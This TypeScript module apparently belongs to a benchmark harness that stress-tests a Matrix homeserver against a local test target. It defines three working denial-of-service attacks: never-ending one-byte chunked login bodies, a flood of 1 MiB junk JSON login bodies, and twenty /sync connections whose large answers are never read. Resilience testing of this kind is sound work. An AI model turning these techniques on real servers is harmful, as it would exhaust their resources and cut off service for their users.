import { once } from 'node:events'
import { connect, type Socket } from 'node:net'
import { client, fillAccount, repeat, type Attack, type Field } from '../attack.ts'

function openSocket({ target, signal }: Field): Socket {
  const { hostname, port } = new URL(target.url)
  const socket = connect({ host: hostname, port: Number(port), localAddress: '127.0.0.2' })
  socket.on('error', () => {})
  signal.addEventListener('abort', () => socket.destroy())
  return socket
}

const untilAborted = async ({ signal }: Field): Promise<void> => {
  if (!signal.aborted) await once(signal, 'abort')
}

const head = 'POST /_matrix/client/v3/login HTTP/1.1\r\nHost: bench\r\nContent-Type: application/json\r\n'

/** A body in chunks of one byte that never ends. */
async function trickle(field: Field): Promise<void> {
  const socket = openSocket(field)
  socket.write(`${head}Transfer-Encoding: chunked\r\n\r\n`)
  const chunks = '1\r\n \r\n'.repeat(5000)
  for (let sent = 0; sent < 1_000_000 && !field.signal.aborted && !socket.destroyed; sent += 5000)
    if (!socket.write(chunks)) await Promise.race([once(socket, 'drain'), once(socket, 'close')])
  await untilAborted(field)
}

export const connectionAttacks: Attack[] = [
  {
    name: 'N16 chunks',
    summary: 'ten unfinished bodies of a million chunks of one byte',
    run: async (field) => void (await Promise.all(Array.from({ length: 10 }, () => trickle(field)))),
  },
  {
    name: 'N20 login bodies',
    summary: '300 bodies of 1 MiB of [{},{},...] to /login',
    run: (field) => {
      const body = Array.from({ length: 349_000 }, () => ({}))
      const ask = () => field.target.http.ask({ method: 'POST', path: `${client}/login`, body })
      return repeat(field, { times: 300, atOnce: 30 }, ask)
    },
  },
  {
    name: 'N22 unread answers',
    summary: 'twenty readers of a 20 MB answer that never read',
    async run(field) {
      const user = await field.target.newUser()
      await fillAccount(field, user, 20)
      for (let reader = 0; reader < 20; reader++) {
        const socket = openSocket(field)
        socket.pause()
        socket.write(`GET ${client}/sync HTTP/1.1\r\nHost: bench\r\nAuthorization: ${user.authorization}\r\n\r\n`)
      }
      await untilAborted(field)
    },
  },
]
